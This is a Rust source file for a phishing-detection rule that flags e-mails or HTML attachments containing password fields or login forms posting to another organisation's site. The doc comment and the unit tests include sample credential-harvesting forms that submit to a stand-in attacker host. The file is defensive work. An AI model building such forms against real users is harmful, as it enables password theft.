//! `link-credential-form`: a form asking for a password inside the message or an HTML
//! attachment.
//!
//! **What it detects.** An HTML body or HTML/SVG attachment containing a password field, or
//! a form with a user-name / e-mail field that submits to another organisation's site.
//!
//! **Why it matters.** Legitimate services never ask for a password inside an e-mail: they
//! send you to their site. An HTML attachment that opens a sign-in page locally evades URL
//! scanners, because there is no link to scan until the form is submitted.
//!
//! **Example.** `invoice.html` attached, containing `<form action="https://evil.top/p">` with
//! `<input type="password">`.
//!
//! **Grading.** Password field: high, 45. User-name or e-mail field in a form posting to
//! another organisation than the sender's: low, 20. One finding per message.
//!
//! **Known false positives.** Newsletter sign-up forms ask for an e-mail address: they only
//! count when they post to another organisation than the sender's, and never reach a banner
//! alone.

use super::{Input, Rule, finding, link_evidence, org_of};
use crate::report::{Evidence, Finding, Severity};

pub const RULE: Rule = Rule {
    id: "link-credential-form",
    summary: "a form asking for a password (or a login posting elsewhere) in the message",
    check,
};

fn check(input: &Input<'_>, out: &mut Vec<Finding>) {
    let sender = input
        .mail
        .author()
        .map(org_of)
        .unwrap_or_default()
        .to_ascii_lowercase();
    let form = input.links.forms.iter().find(|f| f.password).or_else(|| {
        input.links.forms.iter().find(|f| {
            f.user_field
                && f.action
                    .and_then(|i| input.links.links.get(i))
                    .is_some_and(|l| l.dest.is_web() && l.dest.org() != sender)
        })
    });
    let Some(form) = form else { return };
    let action = form.action.and_then(|i| input.links.links.get(i));
    let (severity, score, title) = if form.password {
        (
            Severity::High,
            45,
            "The message contains a form asking for a password".to_string(),
        )
    } else {
        (
            Severity::Low,
            20,
            format!(
                "The message contains a sign-in form that sends to {}",
                action.map(|l| l.dest.org()).unwrap_or_default()
            ),
        )
    };
    let whereto = match action {
        Some(l) if l.dest.is_web() => {
            format!(" Whatever is typed is sent to {}.", l.dest.host_unicode)
        }
        _ => String::new(),
    };
    let mut evidence = vec![Evidence::Text {
        text: if form.password {
            "password field"
        } else {
            "user name or e-mail field"
        }
        .to_string(),
    }];
    evidence.extend(action.map(link_evidence));
    out.push(finding(
        &RULE,
        severity,
        score,
        title,
        format!(
            "Real services never ask you to type your password into an e-mail or an attached page; they send you to their own website.{whereto}"
        ),
        evidence,
        form.source.clone(),
    ));
}

#[cfg(test)]
mod tests {
    use super::*;

    fn score(html: &str) -> Option<u32> {
        let raw = format!("From: a@sender.example\r\nContent-Type: text/html\r\n\r\n{html}\r\n");
        crate::analyze(
            raw.as_bytes(),
            &crate::Policy::default(),
            &crate::Context::default(),
        )
        .findings
        .into_iter()
        .find(|f| f.rule == RULE.id)
        .map(|f| f.score)
    }

    #[test]
    fn grades() {
        assert_eq!(
            score("<form action='https://evil.top/p'><input type=password></form>"),
            Some(45)
        );
        assert_eq!(
            score("<form action='https://evil.top/p'><input name=email></form>"),
            Some(20)
        );
        assert_eq!(
            score("<form action='https://www.sender.example/sub'><input name=email></form>"),
            None
        );
        assert_eq!(
            score("<form action='https://search.example/'><input name=q></form>"),
            None
        );
    }
}
